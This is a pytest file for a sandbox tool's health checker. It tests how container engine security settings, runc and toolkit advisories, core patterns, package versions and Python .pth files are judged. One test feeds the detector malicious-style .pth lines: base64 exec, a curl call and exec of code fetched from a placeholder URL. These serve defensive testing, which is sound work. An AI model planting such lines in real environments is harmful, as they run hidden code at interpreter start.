"""The doctor's judgements on what engines and environments tell of themselves."""

import re
import tomllib
from pathlib import Path

import pytest

from fumehood import doctor, policy
from fumehood.doctor import Check, advisories, engine, environment, machine
from fumehood.sandbox.engine import Endpoint

pytestmark = pytest.mark.unit
STANDARD = policy.load("standard")
INFO = {
    "CgroupVersion": "2", "CgroupDriver": "systemd", "MemoryLimit": True, "SwapLimit": True, "CpuCfsQuota": True,
    "PidsLimit": True, "SecurityOptions": ["name=apparmor", "name=seccomp,profile=builtin", "name=cgroupns"],
    "Runtimes": {"runc": {}, "io.containerd.runc.v2": {}}, "Driver": "overlay2", "MemTotal": 64 * 2**30, "NCPU": 8,
}  # fmt: skip
VERSIONS = {
    "Version": "28.5.2", "ApiVersion": "1.51",
    "Components": [{"Name": "Engine", "Version": "28.5.2"}, {"Name": "runc", "Version": "1.3.3"}],
}  # fmt: skip


def judged(limits=STANDARD, **changes):
    info = INFO | changes
    checks = [*engine.enforcement(info, VERSIONS, limits), *engine.judge_host(info, limits)]
    return {check.name: check for check in checks}


def versions(**changes):
    version = VERSIONS | changes
    checks = [*advisories.judge(version), *engine.enforcement(INFO, version, STANDARD)]
    return {check.name: check for check in checks}


def test_a_good_engine_passes_everything():
    checks = [*judged().values(), *versions().values()]
    assert {check.status for check in checks} == {"ok"}
    assert all(check.seen and not check.hint for check in checks)


def only(checks, name, status):
    """The one check that is not ok."""
    wrong = [check for check in checks.values() if check.status != "ok"]
    assert [(check.name, check.status) for check in wrong] == [(name, status)]
    assert wrong[0].hint
    return wrong[0]


@pytest.mark.parametrize(
    ("text", "status"),
    [
        ("1.1.5+ds1", "warn"), ("1.2.7", "warn"), ("1.2.8", "ok"), ("1.2.10", "ok"), ("1.3.0", "warn"),
        ("1.3.2", "warn"), ("1.3.3", "ok"), ("1.4.0", "ok"), ("2.0.0", "ok"), ("1.0.0-rc95", "warn"),
        ("unknown", "warn"),
    ],
)  # fmt: skip
def test_runc_is_held_against_its_advisories(text, status):
    assert advisories.runc_check(text).status == status


@pytest.mark.parametrize(
    ("text", "status"),
    [("NVIDIA Container Toolkit CLI version 1.17.7\ncommit: 1.99.0", "warn"), ("version 1.17.8", "ok"), ("", "warn")],
)
def test_nvidia_s_toolkit_is_held_against_its_advisory(text, status):
    assert advisories.toolkit_check(text).status == status


def test_an_old_engine_is_warned_about():
    assert "20.10.24" in only(versions(Version="20.10.24+dfsg1"), "engine version", "warn").seen


def test_podman_fails_for_what_its_interface_leaves_out():
    podman = {"Components": [{"Name": "Podman Engine", "Version": "4.3.1"}], "Version": "4.3.1", "ApiVersion": "1.41"}
    assert "Podman 4.3.1 takes a seccomp profile only as a path" in only(versions(**podman), "interface", "fail").seen


@pytest.mark.parametrize("text", ["1.40", "1.9", "", "none"])
def test_an_interface_too_old_fails(text):
    only(versions(ApiVersion=text), "interface", "fail")


@pytest.mark.parametrize("text", ["1.41", "1.50", "2.0"])
def test_an_interface_new_enough_passes(text):
    assert versions(ApiVersion=text)["interface"].status == "ok"


def test_a_rootless_engine_on_cgroup_v1_enforces_nothing():
    options = ["name=rootless", "name=seccomp,profile=builtin", "name=apparmor"]
    failed = only(judged(SecurityOptions=options, CgroupVersion="1"), "limits", "fail")
    assert "a rootless engine limits nothing on cgroup v1" in failed.seen
    assert "cgroup v2" in failed.hint
    assert judged(SecurityOptions=options)["limits"].status == "ok"
    assert judged(SecurityOptions=options)["rights"].seen == "rootless engine"


@pytest.mark.parametrize("name", ["MemoryLimit", "SwapLimit", "CpuCfsQuota", "PidsLimit"])
def test_a_limit_that_the_engine_cannot_set_fails_by_name(name):
    assert name in only(judged(**{name: False}), "limits", "fail").seen


def test_no_cgroup_driver_means_no_limits():
    only(judged(CgroupDriver="none"), "limits", "fail")


@pytest.mark.parametrize("options", [["name=apparmor"], ["name=apparmor", "name=seccomp,profile=unconfined"]])
def test_an_engine_without_seccomp_fails(options):
    only(judged(SecurityOptions=options), "seccomp", "fail")


def test_neither_apparmor_nor_selinux_is_a_warning():
    only(judged(SecurityOptions=["name=seccomp,profile=builtin"]), "access control", "warn")
    assert judged(SecurityOptions=["name=seccomp", "name=selinux"])["access control"].seen == "selinux"


def test_user_namespaces_are_seen():
    assert "user namespaces" in judged(SecurityOptions=["name=seccomp", "name=userns", "name=apparmor"])["rights"].seen


def test_a_policy_whose_runtime_is_absent_fails():
    gvisor = STANDARD.model_copy(update={"runtime": "runsc"})
    assert "make gvisor" in only(judged(gvisor), "runtime", "fail").hint
    assert judged(gvisor, Runtimes={"runc": {}, "runsc": {}})["runtime"].status == "ok"


def test_a_copying_storage_driver_is_a_warning():
    only(judged(Driver="vfs"), "storage", "warn")


def test_memory_is_held_against_the_rooms_that_live_together():
    need = STANDARD.train.host_bytes + STANDARD.predict.host_bytes
    assert engine.memory_check(need, STANDARD).status == "ok"
    assert engine.memory_check(need - 1, STANDARD).status == "warn"
    only(judged(MemTotal=2**30), "memory", "warn")


def test_one_cpu_is_a_warning():
    only(judged(NCPU=1), "CPUs", "warn")


def test_an_engine_that_tells_nothing_passes_nothing_silently():
    assert [check.status for check in engine.enforcement({}, {}, STANDARD)] == ["fail"] * 4
    assert {check.name: check.status for check in engine.judge_host({}, STANDARD)}["memory"] == "warn"
    assert [check.status for check in advisories.judge({})] == ["warn"]


@pytest.mark.parametrize(
    ("pattern", "status"), [("core\n", "ok"), ("/var/core.%p", "ok"), ("|/usr/lib/crash %p\n", "warn"), ("|", "warn")]
)
def test_a_piped_core_pattern_is_a_warning(pattern, status):
    assert machine.core_pattern_check(pattern).status == status


def test_a_pth_file_that_runs_unknown_code_is_named():
    check = environment.pth_check(
        {"usual.pth": list(environment.USUAL_PTH), "paths.pth": [], "odd.pth": ["import os; os.x()"]}
    )
    assert (check.status, check.seen) == ("warn", "odd.pth")
    assert environment.pth_check({"usual.pth": [line + ";" for line in environment.USUAL_PTH]}).status == "ok"


@pytest.mark.parametrize(
    "line",
    [
        "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', \"import base64; exec(...)\"])",
        "import base64; exec(base64.b64decode('cHJpbnQoMSk='))",
        "import os; os.system('curl x')",
        "import urllib.request as u; exec(u.urlopen('http://x').read())",
    ],
)
def test_a_pth_file_that_reaches_out_fails(line):
    check = environment.pth_check({"coverage.pth": ["import coverage"], "litellm_init.pth": [line]})
    assert (check.status, check.seen) == ("fail", "litellm_init.pth")


def test_stolen_and_absent_packages_fail():
    there = dict.fromkeys(environment.PACKAGES, "1.0") | environment.LOOKED_AT
    assert environment.packages_check(there).status == "ok"
    assert environment.packages_check(there | {"litellm": "1.107.0"}).status == "warn"
    assert environment.packages_check(there | {"litellm": "1.82.8"}).status == "fail"
    assert environment.packages_check(there | {"litellm": "1.82.7"}).status == "fail"
    assert "scipy" in environment.packages_check(there | {"scipy": None}).hint


def test_only_declared_packages_are_asked_for():
    pyproject = tomllib.loads((Path(__file__).parents[2] / "pyproject.toml").read_text())
    dependencies = pyproject["project"]["dependencies"]
    assert set(environment.PACKAGES) <= {re.split(r"[\[<>=]", text)[0] for text in dependencies}
    pins = {re.sub(r"\[.*\]", "", text) for text in dependencies if "==" in text}
    assert pins == {f"{name}=={version}" for name, version in environment.LOOKED_AT.items()}


def test_disks_are_judged_by_what_is_free(tmp_path):
    assert machine.disk_check("disk", tmp_path, enough=1, needed=1).status == "ok"
    assert machine.disk_check("disk", tmp_path, enough=2**70, needed=1).status == "warn"
    assert machine.disk_check("disk", tmp_path, enough=2**70, needed=2**69).status == "fail"
    assert machine.disk_check("disk", tmp_path / "nowhere", enough=1, needed=1).status == "warn"


def test_only_a_socket_is_this_machine():
    assert Endpoint("unix:///var/run/docker.sock", "test").is_local
    assert not Endpoint("tcp://gpu-server:2376", "test").is_local
    assert not Endpoint("ssh://gpu-server", "test").is_local


def test_only_a_failure_fails_the_whole():
    assert doctor.passed([Check(name="a", status="ok", seen=""), Check(name="b", status="warn", seen="")])
    assert not doctor.passed([Check(name="a", status="ok", seen=""), Check(name="b", status="fail", seen="")])


def test_without_an_engine_the_rest_is_still_examined(tmp_path, monkeypatch):
    monkeypatch.setenv("DOCKER_HOST", f"unix://{tmp_path}/nobody.sock")
    checks = {check.name: check for check in doctor.examine(STANDARD, tmp_path)}
    assert checks["engine"].status == "fail"
    assert "rootless Docker" in checks["engine"].hint
    assert {"disk of this folder", "state folder", "Python", "packages", ".pth files"} <= set(checks)
